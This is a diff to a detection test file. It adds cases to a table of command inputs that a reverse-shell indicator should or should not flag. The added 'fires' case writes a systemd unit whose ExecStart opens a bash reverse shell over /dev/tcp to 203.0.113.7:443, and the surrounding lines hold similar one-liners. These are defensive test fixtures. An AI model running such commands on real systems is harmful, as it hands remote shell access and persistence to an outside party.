@@ -9,6 +9,9 @@ const image = 'registry.example.com/shop/web:2';
 
 indicatorTable(commandReverseShell, {
   fires: {
+    'a unit that is written for another machine': script(
+      'printf \'[Service]\\nExecStart=/bin/bash -c "bash -i >& /dev/tcp/203.0.113.7/443 0>&1"\\n\' > /images/root/etc/systemd/system/a.service',
+    ),
     'bash on its own network device': runs('bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/443 0>&1'),
     'an interactive shell whose redirection is mistyped': runs('bash', '-c', 'bash -i >& /dev/tcp/10.1.2.3/443 0&1'),
     'a client of PowerShell that runs each line': runs(
@@ -151,6 +154,9 @@ indicatorTable(commandReverseShell, {
     }),
   },
   staysSilent: {
+    'a unit that starts an exporter': script(
+      "printf '[Service]\\nExecStart=/usr/bin/exporter --web.listen-address=http://0.0.0.0:9100\\n' > /images/root/etc/systemd/system/a.service",
+    ),
     'zsh that asks whether somebody listens': runs('zsh', '-c', 'zmodload zsh/net/tcp; ztcp db 5432 && ztcp -c'),
     'rcat that listens': runs('rcat', 'listen', '443'),
     'a service of inetd that is no shell': script(
